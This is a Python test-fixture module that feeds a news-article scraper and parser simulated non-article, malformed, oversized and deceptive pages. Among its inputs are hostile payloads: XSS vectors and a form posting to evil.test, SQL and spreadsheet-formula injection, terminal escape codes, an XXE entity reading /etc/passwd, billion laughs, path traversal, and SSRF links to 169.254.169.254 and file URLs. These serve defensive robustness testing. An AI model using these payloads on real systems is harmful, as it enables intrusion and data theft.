"""Pages that are whole, and are something else, or hold what no article holds."""

from __future__ import annotations

import re
from collections.abc import Iterator

from misbehaviours.making import (
    BILLION_LAUGHS,
    END,
    LARGE,
    LOGIN,
    NGINX,
    NOISE,
    PDF,
    PNG,
    Made,
    chunked,
    chunks,
    failed,
    in_page,
    in_word,
    rejected,
    reply,
    stored,
    swapped,
)
from misbehaviours.server import Answer, Asked, Step


def _nested(tag: str, times: int = 50_000) -> Made:
    return in_page(f"<{tag}>" * times + "tief" + f"</{tag}>" * times)


OTHER_PAGES = (
    rejected("nothing", "empty", reply(b"")),
    rejected("blanks", "empty", reply(b" \r\n\t" * 1000)),
    rejected(
        "JSON",
        "not_a_post",
        reply(b'{"code": 0, "data": null}', kind="Content-Type: application/json"),
    ),
    rejected("null", "not_a_post", reply(b"null")),
    rejected("a PDF file", "charset", reply(PDF, kind="Content-Type: application/pdf")),
    rejected("an image", "charset", reply(PNG, kind="Content-Type: image/png")),
    rejected("a ZIP file", "charset", reply(b"PK\x03\x04" + NOISE)),
    rejected("plain text", "not_a_post", reply("好的".encode() * 500)),
    rejected("a login page", "not_a_post", reply(LOGIN)),
    rejected("an error page of the server, status 200", "not_a_post", reply(NGINX)),
    rejected(
        "a page that only a script fills",
        "not_a_post",
        reply(b"<html><body><div id=app></div><script src=/x.js></script></body></html>"),
    ),
    rejected(
        "a page that wants a proof of being human",
        "not_a_post",
        reply(
            b"<html><head><title>Just a moment...</title></head><body><script>x()</script></body>"
            b"</html>"
        ),
    ),
    rejected(
        "a page of frames",
        "not_a_post",
        reply(b"<html><frameset><frame src=/x.html></frameset></html>"),
    ),
    rejected(
        "an Atom feed",
        "not_a_post",
        reply(b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"></feed>'),
    ),
    rejected("robots.txt", "not_a_post", reply(b"User-agent: *\nDisallow:\n")),
    rejected(
        "a stack trace", "not_a_post", reply(b"Traceback (most recent call last):\n  File x\n")
    ),
    rejected(
        "the layout without an article",
        "not_a_post",
        reply(swapped("<section>.*</section>", "<section></section>")),
    ),
    rejected(
        "the article in a comment",
        "not_a_post",
        reply(swapped("<section>(.*)</section>", "<section><!-- x --></section>")),
    ),
    stored(
        "an article without a heading and text",
        reply(swapped("<section>.*</section>", "<section><h1></h1></section>")),
        kept="title",
    ),
)

ODD_PAGES = (
    stored("the page twice", reply(lambda page: page + page), kept="words"),
    stored("a second <html> inside", reply(in_page("<html><body>")), kept="words"),
    stored("no </p>", reply(lambda page: page.replace(b"</p>", b"")), kept="words"),
    stored(
        "tags in capitals",
        reply(lambda page: page.replace(b"<p>", b"<P>").replace(b"</p>", b"</P>")),
    ),
    stored("tags that end in the wrong order", reply(in_page("<b><i></b></i>"))),
    rejected("an attribute without its end quote", "unclosed", reply(in_page("<p title='"))),
    rejected("a comment without its end", "unclosed", reply(in_page("<!-- "))),
    rejected("a script without its end", "unclosed", reply(in_page("<script>"))),
    rejected("<plaintext>", "unclosed", reply(in_page("<plaintext>"))),
    stored(
        "a script, in every way there is",
        reply(
            in_page(
                "<script>alert(1)</script><img src=x onerror=alert(1)>"
                "<a href=javascript:alert(1)>x</a>"
                "<svg onload=alert(1)><iframe src=//evil.test></iframe><style>@import 'x'</style>"
                "<p style=background:url(javascript:x)>y</p><object data=x></object>"
                "<math><mi//xlink:href='x'>"
            )
        ),
        kept="words",
    ),
    stored(
        "a form that sends elsewhere",
        reply(in_page("<form action=//evil.test><input name=x></form>")),
    ),
    stored("SQL in a word", reply(in_word("'); DROP TABLE articles; --")), kept="words"),
    stored("a formula in a word", reply(in_word("=cmd|' /C calc'!A0")), kept="words"),
    stored("codes of a terminal in a word", reply(in_word("\x1b[2J\x1b]0;x\x07")), kept="words"),
    stored(
        "a title that does not end before 300 KB",
        reply(lambda page: page.replace(b"</h1>\n\n<", b"x" * 300_000 + b"</h1>\n\n<", 1)),
        kept="words",
    ),
    stored("a paragraph of 900 KB", reply(in_page("<p>" + "长" * 300_000 + "</p>")), kept="words"),
    stored(
        "a word of 900 KB without a blank",
        reply(in_page("<p>" + "x" * 900_000 + "</p>")),
        kept="words",
    ),
    rejected(
        "a paragraph of 1.2 MB", "too_large", reply(in_page("<p>" + "x" * 1_200_000 + "</p>"))
    ),
    stored("900 KB of blanks", reply(in_page("<p>" + " " * 900_000 + "x</p>")), kept="words"),
    stored(
        "100,000 blanks in 400 tags, one in the other",
        reply(in_page("<div>" * 400 + " " * 100_000 + "x" + "</div>" * 400)),
        kept="words",
    ),
    rejected(
        "8,000 advertisements in one paragraph",
        "too_large",
        reply(in_page("<p>" + "<a class=toplink>x</a>" * 8_000 + "</p>")),
    ),
    failed(
        "a paragraph of 50 MB",
        LARGE,
        reply(lambda page: in_page("<p>" + "x" * 50_000_000 + "</p>")(page)),
    ),
    failed(
        "a paragraph of 50 MB, in chunks",
        LARGE,
        chunks(lambda page: chunked(in_page("<p>" + "x" * 50_000_000 + "</p>")(page), 65536) + END),
    ),
    stored(
        "an attribute of 900 KB", reply(in_page(f'<p title="{"x" * 900_000}">y</p>')), kept="words"
    ),
    rejected(
        "50,000 attributes",
        "too_large",
        reply(in_page("<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">y</p>")),
    ),
    stored("10,000 paragraphs", reply(in_page("<p>x</p>" * 10_000)), kept="words"),
    stored("20,000 line breaks", reply(in_page("<br>" * 20_000)), kept="words"),
    stored(
        "5,000 links",
        reply(in_page("".join(f"<a href=/x{n}>y</a>" for n in range(5_000)))),
        kept="words",
    ),
    stored(
        "5,000 images",
        reply(in_page("".join(f"<img src=//x.test/{n}>" for n in range(5_000)))),
        kept="words",
    ),
    stored(
        "2,000 linked shares",
        reply(
            in_page(
                "".join(
                    f'<a class="keytip" href="http://quote.eastmoney.com/unify/r/1.{n:06}">y</a>'
                    for n in range(600_000, 602_000)
                )
            )
        ),
        kept="words",
    ),
    stored(
        "2,000 tables", reply(in_page("<table><tr><td>x</td></tr></table>" * 2_000)), kept="words"
    ),
    stored(
        "a table of 10,000 cells in a row",
        reply(in_page("<table><tr>" + "<td>x</td>" * 10_000 + "</tr></table>")),
        kept="words",
    ),
    stored("100,000 entities", reply(in_word("&amp;" * 100_000)), kept="words"),
    rejected(
        "50,000 unknown tags", "too_deep", reply(in_page("".join(f"<x{n}>" for n in range(50_000))))
    ),
    rejected("20,000 comments", "too_large", reply(in_page("<!--x-->" * 20_000))),
    stored("100,000 tags that only end", reply(in_page("</div>" * 100_000)), kept="title"),
    stored(
        "a data: image of 900 KB",
        reply(in_page(f'<img src="data:image/png;base64,{"A" * 900_000}">')),
    ),
    stored(
        "entities that grow a billion times", reply(lambda page: BILLION_LAUGHS.encode() + page)
    ),
    stored(
        "an entity of a file",
        reply(
            lambda page: (
                b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + in_word("&x;")(page)
            )
        ),
        kept="words",
    ),
    *(
        rejected(f"<{tag}>, 50,000 deep", "too_deep", reply(_nested(tag)))
        for tag in ("div", "b", "ul", "span", "font")
    ),
    stored("<div>, 200 deep", reply(_nested("div", 200)), kept="words"),
)

_TIME = r"CST\) [0-9: -]+</small>"
_PUBLISHED = r'article:published_time" content="[^"]*"'


def _times(text: str) -> Made:
    return swapped(_TIME, f"CST) {text}</small>")


def _share(host: str) -> Answer:
    """Answer with a share link to another host behind the article."""

    def answer(asked: Asked) -> Iterator[Step]:
        code = asked.path.rpartition("/")[2].removesuffix(".html")
        target = host.replace("{canary}", asked.canary)
        link = f"{target}html_News/NewsShare.html?infoCode={code}"
        paragraph = f'<p><a href="{link}">{link}</a></p>\n<p><a href="//finews.withounder'
        return reply(
            lambda page: page.replace(b'<p><a href="//finews.withounder', paragraph.encode(), 1)
        )(asked)

    return answer


FALSE_WORDS = (
    rejected(
        "the page of another article, under this address",
        "wrong_id",
        lambda asked: reply(asked.other_body)(asked),
    ),
    stored("an invalid time", reply(_times("99:99")), kept="words"),
    stored("no time", reply(_times("")), kept="words"),
    stored("a time in the year 9999", reply(_times("9999-12-31 23:59:59")), kept="words"),
    stored("a time in the year 0", reply(_times("0000-00-00 00:00:00")), kept="words"),
    stored("a time of 40 digits", reply(_times("2" * 40)), kept="words"),
    stored(
        "a time in digits of another script", reply(_times("٢٠٢٢-٠٦-١٢ ٠٠:٢١:٣٥")), kept="words"
    ),
    stored("a time of 500 KB", reply(_times("2022-06-12 " * 45_000)), kept="words"),
    stored(
        "5,000 tags",
        reply(swapped("tags:", "tags:" + "".join(f"<em>t{n}</em> " for n in range(5_000)))),
        kept="words",
    ),
    stored(
        "a footer that names a category in ../..",
        reply(
            lambda page: re.sub(rb"/category/[^/]+\.html", b"/category/../../etc/passwd.html", page)
        ),
        kept="words",
    ),
    stored("a share link to a private address", _share("http://169.254.169.254/"), kept="words"),
    stored("a share link to another port", _share("{canary}"), kept="words"),
    stored("a share link to a file", _share("file:///etc/"), kept="words"),
    stored("a share link to a broken address", _share("http://[::1/"), kept="words"),
)
